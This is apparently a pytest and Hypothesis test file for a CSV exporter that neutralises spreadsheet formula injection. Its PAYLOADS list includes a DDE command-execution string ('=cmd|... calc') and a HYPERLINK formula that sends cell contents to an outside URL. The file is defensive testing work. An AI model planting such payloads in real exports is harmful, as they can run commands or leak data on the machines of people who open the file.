"""CSV: exact for programs; for spreadsheets no cell can begin a formula, and nothing is lost."""

import csv
import io
from datetime import date

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from exchange.domain.formula_guard import guard, unguard
from exchange.exports.csv_file import csv_bytes
from exchange.exports.table import Cell, Table, cell_text

FORMULAS = "=+-@＝＋－＠|%"
SIGNS = st.sampled_from(["=", "+", "-", "@", "＝", "＋", "－", "＠", "'", '"', *",;\t\r\n |%a1\0"])
TEXTS = st.text(SIGNS, max_size=12) | st.text(max_size=12)
PAYLOADS = (
    "=1+1",
    "+972 54 123",
    "-5",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "\u00a0=1",
    "\ufeff=1",
    '"=1"',
    "'=1",
    "''",
    "＝1",
    "＋1",
    "－1",
    "＠SUM",
    "a;=1",
    "a,=1",
    "a\t=1",
    "a\n=1",
    'a";"=1',
    'a,"" =1',
    "a;'=1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org?"&A1)',
    "%0A-3+3+cmd",
    "O'Brien",
    "'",
    "",
)


def table(*rows: tuple[Cell, ...]) -> Table:
    return Table("hosts", ("first", "second", "third"), rows)


def read(data: bytes, separator: str, encoding: str) -> list[list[str]]:
    text = io.StringIO(data.decode(encoding), newline="")
    return list(csv.reader(text, delimiter=separator))


def is_dangerous(cell: str) -> bool:
    """Whether a spreadsheet may compute the cell, blind to what it drops before it looks."""
    return cell.lstrip(' \u00a0\ufeff"\t\r\n')[:1] in tuple(FORMULAS)


@given(TEXTS)
@settings(max_examples=500)
def test_guard_is_undone_exactly(text: str) -> None:
    assert unguard(guard(text)) == text


@pytest.mark.parametrize("text", PAYLOADS)
def test_guard_of_a_payload_is_undone_exactly(text: str) -> None:
    assert unguard(guard(text)) == text


@pytest.mark.parametrize("text", ["O'Brien", "Siân", "a - b", "1 + 1", "x=1", "", "10%", "a, b"])
def test_harmless_text_is_left_alone(text: str) -> None:
    assert guard(text) == text


@pytest.mark.parametrize("separator", [",", ";", "\t"])
@given(texts=st.lists(st.tuples(TEXTS, TEXTS, TEXTS), max_size=3))
@example(texts=[("a", text, "b") for text in PAYLOADS])
@example(texts=[(text, text, text) for text in PAYLOADS])
@settings(max_examples=300)
def test_no_cell_begins_a_formula_under_any_separator(
    separator: str, texts: list[tuple[str, str, str]]
) -> None:
    data = csv_bytes(table(*texts), for_="spreadsheets")
    found = [cell for row in read(data, separator, "utf-8-sig") for cell in row]
    assert [cell for cell in found if is_dangerous(cell)] == []


@pytest.mark.parametrize("for_", ["programs", "spreadsheets"])
@given(texts=st.lists(st.tuples(TEXTS, TEXTS, TEXTS), max_size=3))
@settings(max_examples=300)
def test_every_text_comes_back_exactly(for_: str, texts: list[tuple[str, str, str]]) -> None:
    data = csv_bytes(table(*texts), for_=for_)
    back = read(data, ",", "utf-8" if for_ == "programs" else "utf-8-sig")[1:]
    if for_ == "spreadsheets":
        back = [[unguard(cell) for cell in row] for row in back]
    assert back == [list(row) for row in texts]


def test_numbers_dates_and_truths_are_never_guarded() -> None:
    rows = table((-5, -0.1, 1e-7), (date(2027, 1, 2), True, None), ("-5", "1e-7", False))
    data = csv_bytes(rows, for_="spreadsheets")
    assert data == (
        b"\xef\xbb\xbffirst,second,third\r\n-5,-0.1,1e-07\r\n2027-01-02,yes,\r\n'-5,1e-7,no\r\n"
    )


def test_file_for_programs_is_exact() -> None:
    rows = table(("=1", "a;b", 'say "hi"'), ("a\rb", " x", "Ö"))
    assert csv_bytes(rows, for_="programs") == (
        'first,second,third\n=1,"a;b","say ""hi"""\n"a\rb"," x",Ö\n'.encode()
    )


def test_row_of_one_empty_cell_is_still_a_row() -> None:
    data = csv_bytes(Table("hosts", ("one",), [("",), (None,)]), for_="programs")
    assert read(data, ",", "utf-8") == [["one"], [""], [""]]


@pytest.mark.parametrize(
    ("cell", "text"),
    [(0.1 + 0.2, "0.30000000000000004"), (1.0, "1.0"), (10**30, "1" + "0" * 30), (True, "yes")],
)
def test_number_is_written_so_that_it_reads_back(cell: Cell, text: str) -> None:
    assert cell_text(cell) == text
